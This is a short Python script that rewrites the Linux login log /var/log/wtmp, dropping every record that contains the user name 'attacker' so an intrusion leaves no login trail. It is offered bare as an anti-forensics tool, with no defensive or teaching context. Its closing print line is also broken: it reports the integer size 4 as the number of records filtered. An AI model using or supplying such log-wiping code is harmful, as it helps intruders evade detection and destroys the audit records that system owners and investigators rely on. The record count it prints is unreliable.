import struct

UTMP = "/var/log/wtmp"
REC = 384
user = b"attacker"
with open(UTMP, "rb") as f:
    data = f.read()
kept = [data[i:i + REC] for i in range(0, len(data), REC) if user not in data[i:i + REC]]
with open(UTMP, "wb") as f:
    f.write(b"".join(kept))
print(struct.calcsize("i"), "records filtered")
